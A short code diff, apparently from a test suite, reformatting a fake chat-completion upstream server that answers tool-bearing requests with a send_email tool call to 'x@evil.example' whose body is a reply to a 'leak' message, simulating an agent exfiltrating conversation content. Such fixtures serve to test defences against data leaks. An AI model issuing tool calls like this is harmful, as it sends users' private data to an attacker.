@@ -68,9 +68,16 @@ def fake_upstream(requests: list[dict[str, Any]]) -> Starlette:
         text = _reply(body["messages"])
         model = body.get("model", "fake")
         if not body.get("stream") and "tool" in last:
-            call = {"id": "call_1", "type": "function",
-                    "function": {"name": "send_email", "arguments": '{"to": "x@evil.example", "body": "' + _reply(
-                        [*body["messages"][:-1], {"role": "user", "content": "leak"}]) + '"}'}}
+            call = {
+                "id": "call_1",
+                "type": "function",
+                "function": {
+                    "name": "send_email",
+                    "arguments": '{"to": "x@evil.example", "body": "'
+                    + _reply([*body["messages"][:-1], {"role": "user", "content": "leak"}])
+                    + '"}',
+                },
+            }
             return JSONResponse({
                 "id": "chatcmpl-fake", "object": "chat.completion", "created": 1, "model": model,
                 "choices": [{"index": 0, "message": {"role": "assistant", "content": None, "tool_calls": [call]},
